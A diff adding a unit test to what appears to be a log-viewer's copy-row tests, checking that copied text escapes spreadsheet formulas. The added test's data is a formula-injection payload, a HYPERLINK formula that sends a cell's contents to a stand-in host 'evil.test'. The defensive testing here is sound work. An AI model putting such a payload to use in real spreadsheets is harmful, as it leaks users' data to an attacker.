@@ -59,6 +59,11 @@ test('[TERM-161] a row is copied as one line of columns', () => {
   expect(rowText(row())).toBe('07:05:09.012\tATI\t12\tOK\tACME · HW:2.1');
 });
 
+test('[SE-33] a copied row holds no formula for a spreadsheet', () => {
+  const text = '=HYPERLINK("http://evil.test/?"&A1)';
+  expect(rowText({ ...row(), text })).toContain(`\t'${text}\t`);
+});
+
 it('bytes as text hide nothing and drop empty lines', () => {
   expect(linesOf(packed('\r\nAB\u0001\r\n\r\nOK\r\n'))).toEqual(['AB·', 'OK']);
 });
